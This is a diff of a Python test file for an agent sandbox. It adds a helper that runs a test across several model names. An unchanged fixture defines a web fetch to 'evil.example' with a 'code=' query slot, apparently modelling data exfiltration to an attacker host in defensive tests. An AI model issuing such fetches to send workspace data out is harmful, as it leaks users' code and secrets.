@@ -13,6 +13,7 @@ from caseworker.ports import AgentFailed, AgentFinished
 from tests.edges.agents_provider import provider
 from tests.edges.agents_world import DONE, AgentWorld, MemoryLedger, bash, script
 from tests.edges.test_agents_gateway import KEY, SAY, question, serving
+from tests.permutations import mostly_slow
 
 FETCHED = {"type": "url", "url": "https://evil.example/?code=..."}
 FETCHING = {"type": "web_fetch_20250910", "name": "web_fetch"}
@@ -155,7 +156,12 @@ async def test_a_program_of_the_agent_can_not_call_the_model(tmp_path: Path) -> 
     assert output.startswith("REFUSED") or output == "ANSWERED b''"
 
 
-@pytest.mark.parametrize("model", ["claude-opus-5", "claude-haiku-4-5", "sonnet", "claude-sonnet-5[1m]", "glm-4.6"])
+@pytest.mark.parametrize(
+    "model",
+    mostly_slow(
+        [("sonnet",), ("glm-4.6",), ("claude-opus-5",), ("claude-haiku-4-5",), ("claude-sonnet-5[1m]",)], always=2
+    ),
+)
 async def test_everything_that_the_agents_program_sends_passes_for_every_model(tmp_path: Path, model: str) -> None:
     world = AgentWorld(tmp_path)
     (world.workspace / "big.txt").write_text(
